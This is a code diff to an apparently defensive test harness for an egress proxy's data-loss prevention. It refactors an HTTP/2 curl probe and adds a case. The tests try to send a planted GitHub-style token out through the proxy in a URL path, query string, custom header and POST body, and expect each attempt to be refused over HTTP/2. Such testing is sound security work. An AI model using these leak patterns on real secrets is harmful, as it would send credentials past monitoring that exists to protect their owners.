@@ -549,34 +549,41 @@ def attack3_evasion(secrets):
             emit("3", "evade-%s-%s" % (name, tag), out, BLOCK_DLP)
 
 
-def negotiated_protocol():
-    """The HTTP version curl ends up speaking through the bump when it offers h2."""
+def curl_h2(*args):
+    """curl --http2 through the bump: (outcome as curl() judges it, the HTTP version that ran)."""
     try:
         p = subprocess.run(["curl", "-sS", "--http2", "--max-time", str(TIMEOUT), "-o",
-                            "/dev/null", "-w", "%{http_version}",
-                            "https://%s/h2-probe" % ALLOWED_TLS],
+                            "/dev/stdout", "-w", "\n%{http_code} %{http_version}"] + list(args),
                            capture_output=True, text=True, timeout=TIMEOUT + 5)
-        return p.stdout.strip() or "none"
     except Exception as e:
-        return err_name(e)
+        return err_name(e), "none"
+    body, _, codes = p.stdout.rpartition("\n")
+    code, _, proto = codes.partition(" ")
+    if code in ("000", ""):
+        return "curl-exit-%d" % p.returncode, proto or "none"
+    block = ""
+    if code == "403" and EGRESS_MARK in body:
+        try:
+            block = json.loads(body).get("reason", "")
+        except ValueError:
+            pass
+    return judge_response(int(code), block, body), proto
 
 
 def attack3_h2(secrets):
-    """curl --http2 through the bump. Egress offers only http/1.1 until it speaks h2 (issue
-    14), so these cases say which protocol ran instead of passing as h2."""
+    """curl --http2 through the bump (issue 14): the protocol that ran is asserted, then the
+    planted token in path, query, header and body must be refused on an h2 stream."""
     ghp = secrets["planted-ghp"]
-    proto = negotiated_protocol()
-    h2 = proto == "2"
-    emit("3", "h2-negotiated", "http/" + proto, ["http/2"],
-         **({} if h2 else {"skip": "egress negotiated HTTP/%s, not h2: it does not speak h2 "
-                                   "yet (issue 14); the cases below ran over HTTP/%s"
-                                   % (proto, proto)}))
+    outcome, proto = curl_h2("https://%s/h2-probe" % ALLOWED_TLS)
+    emit("3", "h2-negotiated", "http/" + proto, ["http/2"], legit=outcome)
     for where, extra in (("path", ["https://%s/leak/%s" % (ALLOWED_TLS, ghp)]),
                          ("query", ["https://%s/leak?q=%s" % (ALLOWED_TLS, ghp)]),
-                         ("header", ["-H", "X-Custom: " + ghp, "https://%s/leak" % ALLOWED_TLS])):
-        out, _ = curl("--http2", *extra)
-        emit("3", "h2-offered-over-http/%s-planted-ghp-raw-%s" % (proto, where), out, BLOCK_DLP,
-             protocol=proto)
+                         ("header", ["-H", "X-Custom: " + ghp, "https://%s/leak" % ALLOWED_TLS]),
+                         ("body", ["-d", "t=" + ghp, "https://%s/leak" % ALLOWED_TLS])):
+        out, proto = curl_h2(*extra)
+        # The block must have come back over h2, not a fallback to HTTP/1.1.
+        emit("3", "h2-planted-ghp-raw-%s" % where, "%s over http/%s" % (out, proto),
+             ["%s over http/2" % b for b in BLOCK_DLP], protocol=proto)
 
 
 def attack3_websocket(secrets):
